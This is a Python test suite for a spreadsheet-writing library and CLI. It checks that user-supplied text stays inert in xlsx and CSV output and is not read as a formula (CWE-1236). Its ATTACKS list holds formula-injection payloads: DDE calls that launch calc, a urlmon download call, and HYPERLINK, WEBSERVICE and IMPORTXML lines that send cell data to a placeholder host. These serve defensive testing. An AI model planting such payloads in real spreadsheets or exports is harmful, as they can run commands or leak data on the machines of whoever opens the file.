"""Formula injection: text from any source stays text, in everything we write (OWASP, CWE-1236)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from typer.testing import CliRunner

from tests.tables import LEADER, roster
from workbook.csv_text import csv_bytes, harmless
from workbook.edits import AddSheet, Append, SetCell
from workbook.model import Book, Cell, Sheet
from workbook.xlsx.making.legacy import as_xlsx
from workbook.xlsx.reading.reader import read_here
from workbook.xlsx.writing.filehost import FileHost
from xladdin.cli import app

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u3000=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?x="&B2,"点我")',
    '=WEBSERVICE("http://x.invalid/")',
    '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
    "'=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    '=DDE("cmd","/C calc","x")',
    '=_xlfn.WEBSERVICE("http://x.invalid")',
    '=IMAGE("http://x.invalid/x.png")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
]


def empty():
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.title = "表"
    book.save(out)
    return out.getvalue()


def texts(data, sheet="表"):
    """Column A as openpyxl reads it, each cell proved to be text; and no formula anywhere in the file."""
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(data))[sheet].iter_rows()]
    assert {cell.data_type for cell in cells} == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert not any(b"<f" in parts.read(n) for n in parts.namelist() if "/sheet" in n)
    return [unescape(cell.value) for cell in cells]


def by_set(host):
    host.apply([SetCell("表", Cell(row, 1), text) for row, text in enumerate(ATTACKS, 1)])


def by_append(host):
    host.apply([Append("表", tuple((text,) for text in ATTACKS))])


def by_add_sheet(host):
    host.apply([AddSheet("新", tuple((text,) for text in ATTACKS))])


@pytest.mark.parametrize(
    ("write", "sheet"),
    [(by_set, "表"), (by_append, "表"), (by_add_sheet, "新")],
    ids=["set", "append", "add_sheet"],
)
def test_text_stays_text_in_a_workbook_we_edit(write, sheet):
    host = FileHost(empty(), "表.xlsx")
    write(host)
    assert texts(host.data, sheet) == ATTACKS


def test_text_stays_text_in_a_workbook_we_make_of_an_old_one():
    told = [*ATTACKS, "_x000D_", "响\x07铃"]
    data = as_xlsx(Book("旧.xls", (Sheet("表", [list(told)]),)))
    assert texts(data) == told
    assert read_here(data, "新.xlsx").sheets[0].columns[0] == told


def test_a_sheet_named_like_a_formula_is_only_a_name():
    host = FileHost(empty(), "表.xlsx")
    host.apply([AddSheet("=1+1", (("甲",),)), Append("=1+1", (("=2",),))])
    assert openpyxl.load_workbook(io.BytesIO(host.data))["=1+1"]["A2"].data_type == "s"


def test_what_people_typed_stays_text_on_the_list_of_findings(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "附件1"
    values = roster(*({**LEADER, "姓名": attack, "手机号": attack, "身份证号": attack} for attack in ATTACKS))
    for row in zip(*values.columns, strict=True):
        book.active.append(row)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    path, out = tmp_path / "附件1.xlsx", tmp_path / "out.xlsx"
    book.save(path)
    CliRunner().invoke(app, ["check", str(path), "-o", str(out)])
    written = openpyxl.load_workbook(out)
    live = [c for row in written["附件1"].iter_rows() for c in row if c.data_type == "f"]
    ours = {
        c.coordinate: c.value for row in written["问题清单"].iter_rows() for c in row if c.data_type == "f"
    }
    assert live == []
    assert set(ours) <= {"A3"}, "only our own count is a formula"
    shown = [c.value for c in written["问题清单"]["G"][5:] if c.value]
    assert any(str(value).startswith("=") for value in shown), "it is shown as typed"


def test_csv_takes_the_sting_out_and_keeps_the_rest():
    rows = [[attack, 12.5, -3.0, None, "张三"] for attack in ATTACKS]
    data = csv_bytes(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    found = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in found] == [a if a.startswith("'") else f"'{a}" for a in ATTACKS]
    assert {tuple(row[1:]) for row in found} == {("12.5", "-3.0", "", "张三")}


@given(st.text(max_size=20))
def test_no_text_is_live_in_csv(text):
    safe = harmless(text)
    assert safe in (text, f"'{text}")
    assert safe.lstrip()[:1] not in ("=", "+", "-", "@")


@given(
    st.lists(
        st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc"]), min_size=1), min_size=1
    )
)
def test_any_text_written_is_read_back_as_the_same_text(values):
    host = FileHost(empty(), "表.xlsx")
    host.apply([Append("表", tuple((value,) for value in values))])
    assert texts(host.data) == values
